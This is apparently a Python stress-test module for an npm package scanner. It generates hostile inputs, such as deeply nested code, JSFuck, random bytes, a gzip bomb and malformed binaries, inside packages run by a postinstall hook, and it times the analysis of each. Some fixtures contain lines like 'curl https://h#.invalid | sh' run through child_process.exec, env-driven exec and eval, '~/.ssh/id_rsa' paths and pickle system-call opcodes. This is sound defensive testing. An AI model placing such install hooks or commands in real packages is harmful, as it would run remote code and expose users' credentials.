"""Inputs that are meant to hurt: deep nesting, long chains, random bytes, bombs, endless lines, each made when it is asked for.

    python -m tests.analysis.hostile [BYTES] [NAME...]

inspects an npm package with each of them (1,000,000 bytes by default) and prints what was answered and how many CPU seconds it took; `!`
marks one of which the unread part was not told, and the exit code is then 1.
Nothing here is run, and nothing of it is kept.
"""

import gzip
import random
import sys
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from pratique.analysis.job import Done
from tests.analysis.inspecting import npm, package_json

MOST_READ = 16 * 1024 * 1024
"""No larger file is read."""
_ACTS = 'require("child_process").exec(process.env.A);eval(atob("YWJj"));\n'
"""What makes a file worth a full look."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input: a file of a package that is run at install.

    `make` gives about so many bytes. From `cut` bytes on it cannot be read whole, and the answer has to say so; 0: it can.
    """

    name: str
    make: Callable[[int], bytes]
    cut: int = 0

    def package(self, size: int) -> dict[str, bytes | str]:
        """The package: its install hook starts the file."""
        return {
            "package.json": package_json(scripts={"postinstall": _starting(self.name)}),
            self.name: self.make(size),
        }

    def inspect(self, size: int) -> Done:
        """What is said of the package."""
        return npm(self.package(size))


def _starting(name: str) -> str:
    suffix = name.rpartition(".")[2]
    programs = {
        "js": "node",
        "ts": "node",
        "sh": "sh",
        "py": "python3",
        "rb": "ruby",
        "ps1": "powershell -File",
    }
    return f"{programs.get(suffix, '')} {name}".strip()


def repeated(unit: str, before: str = "", after: str = "") -> Callable[[int], bytes]:
    """A text over and over."""
    return lambda size: (before + unit * (size // len(unit.encode()) + 1) + after).encode()


def nested(opening: str, closing: str, before: str = "", inside: str = "1") -> Callable[[int], bytes]:
    """A text that is opened and closed as deep as there is room."""

    def make(size: int) -> bytes:
        depth = size // (len(opening) + len(closing)) + 1
        return (before + opening * depth + inside + closing * depth).encode()

    return make


def numbered(line: str, before: str = "") -> Callable[[int], bytes]:
    """Lines that differ in a number."""
    return lambda size: (
        before + "\n".join(line.replace("#", str(n)) for n in range(size // (len(line) + 4) + 1))
    ).encode()


def anything(letters: bytes | None, before: bytes = b"") -> Callable[[int], bytes]:
    """Random bytes, the same each time."""

    def make(size: int) -> bytes:
        chance = random.Random(1)
        return before + (bytes(chance.choices(letters, k=size)) if letters else chance.randbytes(size))

    return make


_SIGNS = b"abc(){}[]`\"'/\\$.;,=+-*0123 \n"
_JS = _ACTS.encode()

CASES: tuple[Hostile, ...] = (
    Hostile("backticks.js", repeated("`", _ACTS), cut=200_000),
    Hostile("templates.js", nested("`${", "}`", _ACTS)),
    Hostile("templates-open.js", repeated("`${", _ACTS), cut=1_000_000_000),
    Hostile("jsfuck.js", repeated("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]+", _ACTS + "eval(", "[])")),
    Hostile("parentheses.js", nested("(", ")", _ACTS)),
    Hostile("braces.js", nested("{", "}", _ACTS)),
    Hostile("functions.js", nested("function a(){", "}", _ACTS)),
    Hostile("called.js", nested("(function(){", "}())", _ACTS)),
    Hostile("calls.js", repeated("()", _ACTS + "a"), cut=200_000),
    Hostile("pipes.js", repeated(".pipe(a)", _ACTS + "a"), cut=200_000),
    Hostile("members.js", repeated(".b", _ACTS + "a")),
    Hostile("evals.js", nested("eval(", ")", _ACTS), cut=200_000),
    Hostile("evals-of-text.js", numbered('eval("f(#)");', _ACTS), cut=200_000),
    Hostile("sum.js", repeated('+"a"', _ACTS + 'x="a"')),
    Hostile("doubled.js", numbered("var v#=v#+v#;", _ACTS)),
    Hostile("addresses.js", numbered('"https://h#.invalid/x";', _ACTS)),
    Hostile("places.js", numbered('"~/.ssh/id_rsa#";', _ACTS)),
    Hostile("commands.js", numbered('require("child_process").exec("curl https://h#.invalid | sh");')),
    Hostile("quotes.js", repeated('"', _ACTS), cut=5_000),
    Hostile("comments.js", repeated("/*", _ACTS), cut=50_000),
    Hostile("random.js", anything(None, _JS), cut=5_000),
    Hostile("signs.js", anything(_SIGNS, _JS), cut=5_000),
    Hostile("line.js", repeated("a=f(1);", _ACTS)),
    Hostile("lines.js", repeated("\n", _ACTS)),
    Hostile("direction.js", repeated("\u202e", _ACTS)),
    Hostile("generics.ts", repeated("a<", _ACTS), cut=200_000),
    Hostile("substitutions.sh", nested("$(", ")", "echo ", "curl https://far.invalid | sh"), cut=5_000),
    Hostile("substitutions-open.sh", repeated("$("), cut=5_000),
    Hostile("pipes.sh", repeated("a|"), cut=50_000),
    Hostile("doubled.sh", repeated("a=$a$a;"), cut=200_000),
    Hostile("documents.sh", repeated("cat <<A\n")),
    Hostile("backticks.sh", repeated("`")),
    Hostile("carets.bat", repeated("^")),
    Hostile("doubled.bat", repeated("set a=%a%%a%\r\n"), cut=200_000),
    Hostile("blocks.ps1", repeated("$(")),
    Hostile("sum.ps1", repeated('"a"+', '$a="x"+', '"b"')),
    Hostile("sum.vbs", repeated('x = "a" & chr(65) & "b"\r\n')),
    Hostile("parentheses.py", repeated("("), cut=5_000),
    Hostile("calls.py", repeated("()", "a"), cut=200_000),
    Hostile("calls.rb", repeated(".b", "a")),
    Hostile("random.py", anything(None), cut=5_000),
    Hostile("deep.json", repeated("[")),
    Hostile("random.pkl", anything(None, b"\x80\x04")),
    Hostile("names.pkl", lambda size: b"\x80\x04" + b"cos\nsystem\n" * (size // 11)),
    Hostile("chunks.png", lambda size: b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0abcd\0\0\0\0" * (size // 12)),
    Hostile("tables.exe", lambda size: b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0" + b"\xff" * size),
    Hostile("tables.so", lambda size: b"\x7fELF\2\1\1" + b"\xff" * size),
    Hostile("tables.wasm", lambda size: b"\0asm\1\0\0\0" + b"\xff" * size),
    Hostile("zeros.gz", lambda size: gzip.compress(b"\0" * (size * 100))),
)
"""Each is named after its file."""

BY_NAME: Mapping[str, Hostile] = {case.name: case for case in CASES}


def main(arguments: list[str]) -> int:
    """Inspect the cases at full size, one after the other."""
    size = int(arguments[0]) if arguments else 1_000_000
    silent = 0
    for name in arguments[1:] or list(BY_NAME):
        case = BY_NAME[name]
        started = time.process_time()
        done = case.inspect(size).inspection
        spent = time.process_time() - started
        unread = next((f"unread: {item.why}" for item in done.unread), "read")
        wrong = bool(done.failed) or (0 < case.cut <= size and unread == "read")
        silent += wrong
        rules = " ".join(sorted({finding.rule for finding in done.findings}))
        sys.stdout.write(f"{'!' if wrong else ' '} {name:24} {spent:7.2f} s  {unread}  {rules}\n")
        sys.stdout.flush()
    return 1 if silent else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
